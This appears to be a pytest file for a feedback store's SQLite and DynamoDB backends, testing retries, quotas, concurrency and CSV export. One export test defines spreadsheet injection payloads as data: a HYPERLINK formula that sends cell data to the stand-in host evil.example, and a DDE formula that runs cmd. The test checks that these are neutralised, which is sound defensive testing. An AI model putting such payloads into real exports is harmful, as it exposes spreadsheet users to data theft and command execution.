"""The feedback store's contract: every test runs against each backend, the SQLite file `sumpipe
serve` uses and the DynamoDB table the stack deploys (moto, in-process, with the table as the
template declares it): retries, reused ids, quotas, concurrency and the CSV export."""

from __future__ import annotations

import csv
import io
import multiprocessing
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import boto3
import pandas as pd
import pytest
from moto import mock_aws
from pipeline_aws import REGION, create_table

from sumpipe.feedback import (
    EXPORT_COLUMNS,
    Decision,
    DecisionIdReused,
    DecisionTooLarge,
    FeedbackLimits,
    FeedbackStore,
    SqliteFeedbackStore,
    TooManyDecisions,
    export_rows,
)
from sumpipe.feedback.dynamodb import DynamoFeedbackStore
from sumpipe.local.motoserver import make_dynamodb_requests_atomic
from sumpipe.settings import Settings

LIMITS = FeedbackLimits.from_settings(Settings())  # the shipped defaults
# 1_800_000_000 s is a whole minute: decision(n) for n < 60 fall in the same one.
START = 1_800_000_000.0


def decision(n: int = 0, **fields: object) -> Decision:
    values: dict = {
        "text_id": f"t-{n}",
        "text": f"Text {n}. It is long.",
        "method": "default",
        "summary_shown": f"Text {n}.",
        "decision": "approve",
        "corrected_summary": "",
        "reviewer": "ana",
        "time": START + n,
    }
    return Decision(**{**values, **fields})


StoreWith = Callable[[FeedbackLimits], FeedbackStore]


@pytest.fixture(params=["sqlite", "dynamodb"])
def store_with(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[StoreWith]:
    """Opens the backend's store with the limits given (one store per test: one file, one table)."""
    if request.param == "sqlite":
        yield lambda limits: SqliteFeedbackStore(tmp_path / "feedback.sqlite3", limits)
        return
    monkeypatch.setenv("AWS_DEFAULT_REGION", REGION)
    # moto applies a request in parts (a cancelled transaction restores a copy of the table taken
    # before others' writes): made atomic as DynamoDB is, as the local stack's emulator does.
    make_dynamodb_requests_atomic()
    with mock_aws():
        db = boto3.client("dynamodb", region_name=REGION)
        create_table(db, "FeedbackTable", "feedback")
        yield lambda limits: DynamoFeedbackStore(db, "feedback", limits)


@pytest.fixture
def store(store_with: StoreWith) -> FeedbackStore:
    return store_with(LIMITS)


def test_a_decision_is_kept_as_recorded(store: FeedbackStore) -> None:
    kept = decision(text='Ünïcode, "quotes",\nnew lines and =formulas', reason="too short", decision="reject")
    assert store.record(kept)
    assert list(store.decisions()) == [kept]


def test_a_retried_decision_is_recorded_once_and_never_overwritten(store: FeedbackStore) -> None:
    first = decision()
    assert store.record(first)
    assert not store.record(first)
    assert not store.record(replace(first, time=first.time + 3))  # a retry is stamped anew
    with pytest.raises(DecisionIdReused, match=f"decision_id {first.decision_id} was already recorded"):
        store.record(decision(decision_id=first.decision_id, reviewer="someone else"))
    assert list(store.decisions()) == [first]


def test_decisions_come_oldest_first(store: FeedbackStore) -> None:
    made = [decision(n) for n in (3, 1, 2)]
    for each in made:
        store.record(each)
    assert [d.text_id for d in store.decisions()] == ["t-1", "t-2", "t-3"]


def test_reviewers_deciding_at_once_lose_nothing(store: FeedbackStore) -> None:
    """Eight reviewers decide on the same text at the same moment, 25 times each: every decision
    is kept (no read-modify-write of a shared row, so no lost update)."""
    start = threading.Barrier(8)

    def review(reviewer: int) -> None:
        start.wait()
        for n in range(25):
            assert store.record(decision(0, reviewer=f"r{reviewer}", reason=str(n), decision="reject"))

    threads = [threading.Thread(target=review, args=(r,)) for r in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    kept = list(store.decisions())
    assert len(kept) == 200
    assert {(d.reviewer, d.reason) for d in kept} == {(f"r{r}", str(n)) for r in range(8) for n in range(25)}


def _record_many(path: str, reviewer: str, start: multiprocessing.synchronize.Barrier) -> None:
    store = SqliteFeedbackStore(path, LIMITS)
    start.wait()
    for n in range(50):
        store.record(decision(n, reviewer=reviewer))


def test_sqlite_store_shared_by_server_processes_loses_nothing(tmp_path: Path) -> None:
    """`sumpipe serve --workers 2`: two processes write the one file at once."""
    path = str(tmp_path / "feedback.sqlite3")
    SqliteFeedbackStore(path, LIMITS)
    context = multiprocessing.get_context("spawn")
    start = context.Barrier(2)
    workers = [context.Process(target=_record_many, args=(path, f"w{i}", start)) for i in range(2)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
        assert worker.exitcode == 0
    assert len(list(SqliteFeedbackStore(path, LIMITS).decisions())) == 100


def test_export_is_csv_with_the_documented_columns(store: FeedbackStore) -> None:
    tricky = decision(
        1, text='A "quoted", comma\nand a new line.', decision="correct", corrected_summary="A."
    )
    store.record(decision(0))
    store.record(tricky)
    rows = list(csv.DictReader(io.StringIO("".join(export_rows(store.decisions())))))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert EXPORT_COLUMNS[:8] == (
        "text_id", "text", "method", "summary_shown", "decision", "corrected_summary", "reviewer", "time"
    )  # fmt: skip
    assert rows[1]["text"] == tricky.text and rows[1]["corrected_summary"] == "A."
    assert rows[0]["time"] == "2027-01-15T08:00:00.000+00:00"


def test_a_decision_over_the_size_limit_is_refused_and_not_written(store_with: StoreWith) -> None:
    store = store_with(FeedbackLimits(max_decision_bytes=1000, decisions_per_minute=60))
    fits = decision(0, text="é" * 400)  # 800 bytes of text, the rest under 200
    assert store.record(fits)
    with pytest.raises(DecisionTooLarge, match=r"over the limit of 1,000 bytes per decision"):
        store.record(decision(1, text="é" * 500))
    assert list(store.decisions()) == [fits]


def test_a_reviewer_over_the_rate_is_refused_until_the_next_minute(store_with: StoreWith) -> None:
    store = store_with(FeedbackLimits(max_decision_bytes=300_000, decisions_per_minute=3))
    for n in range(3):
        assert store.record(decision(n, reviewer="ana"))
    with pytest.raises(TooManyDecisions, match="reviewer 'ana' recorded 3 decisions this minute") as refused:
        store.record(decision(20, reviewer="ana"))
    assert refused.value.retry_after == 40  # the minute started at n=0 and ends at n=60
    assert store.record(decision(21, reviewer="bea"))  # each reviewer has a quota of their own
    assert not store.record(decision(0, reviewer="ana", decision_id=next(store.decisions()).decision_id))
    assert store.record(decision(60, reviewer="ana"))  # a new minute
    assert [d.time - START for d in store.decisions()] == [0, 1, 2, 21, 60]


def test_the_rate_holds_for_requests_at_once(store_with: StoreWith) -> None:
    """Eight requests of one reviewer at a time, 40 in all: exactly the quota gets in."""
    store = store_with(FeedbackLimits(max_decision_bytes=300_000, decisions_per_minute=5))
    start = threading.Barrier(8)
    outcomes: list[str] = []

    def review(thread: int) -> None:
        start.wait()
        for n in range(5):
            try:
                store.record(decision(thread * 5 + n, reviewer="ana"))
                outcomes.append("recorded")
            except TooManyDecisions:
                outcomes.append("refused")

    threads = [threading.Thread(target=review, args=(t,)) for t in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["recorded"] * 5 + ["refused"] * 35
    assert len(list(store.decisions())) == 5


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
# Text a reviewer may send, each kept whole in its field: CR, LF, CRLF, a leading tab.
AWKWARD_TEXTS = [
    "One.\rTwo after a bare CR.",
    "One.\nTwo after a LF.",
    "One.\r\nTwo after CRLF.",
    "\tA leading tab.",
]


def test_export_neutralizes_formulas_in_text_and_keeps_ids_exact(store: FeedbackStore) -> None:
    store.record(
        decision(
            0, text=HYPERLINK, summary_shown="\t" + DDE, decision="correct", corrected_summary="@SUM(A1:A9)",
            reason="\r-2+3", reviewer=HYPERLINK, text_id="-_TSaVr53qiEGqMkwyEMaQ", job_id="-5",
        )
    )  # fmt: skip
    store.record(decision(1, text_id=HYPERLINK, job_id=DDE, decision_id="-abc-1234"))
    store.record(decision(2, text="-5", summary_shown="+3.2", reason="-1e5", text_id="-1e5"))
    rows = list(csv.DictReader(io.StringIO("".join(export_rows(store.decisions())), newline="")))
    free_text = ("text", "summary_shown", "corrected_summary", "reason", "reviewer")
    assert [rows[0][name] for name in free_text] == [
        "'" + HYPERLINK, "'\t" + DDE, "'@SUM(A1:A9)", "'\r-2+3", "'" + HYPERLINK
    ]  # fmt: skip
    assert (rows[0]["text_id"], rows[0]["job_id"]) == ("-_TSaVr53qiEGqMkwyEMaQ", "-5")
    # An id that could run is neutralized too; one that can't stays exact.
    assert (rows[1]["text_id"], rows[1]["job_id"], rows[1]["decision_id"]) == (
        "'" + HYPERLINK,
        "'" + DDE,
        "-abc-1234",
    )
    # Plain numbers are never touched.
    assert [rows[2][name] for name in ("text", "summary_shown", "reason", "text_id")] == [
        "-5",
        "+3.2",
        "-1e5",
        "-1e5",
    ]


def test_export_round_trips_awkward_text_through_csv_and_pandas(store: FeedbackStore, tmp_path: Path) -> None:
    made = [
        decision(
            n, text=f"{text} The chips are crunchy.", summary_shown=text, text_id=f"-id{n}\r", reviewer=text
        )
        for n, text in enumerate(AWKWARD_TEXTS)
    ]
    for each in made:
        store.record(each)
    path = tmp_path / "feedback.csv"
    path.write_text("".join(export_rows(store.decisions())), encoding="utf-8", newline="")
    with path.open(newline="", encoding="utf-8") as file:
        by_csv = list(csv.DictReader(file))
    by_pandas = pd.read_csv(path, dtype=str, keep_default_na=False).to_dict("records")
    for rows in (by_csv, by_pandas):
        assert [(r["text_id"], r["text"], r["summary_shown"], r["reviewer"]) for r in rows] == [
            (d.text_id, d.text, d.summary_shown, d.reviewer) for d in made
        ]
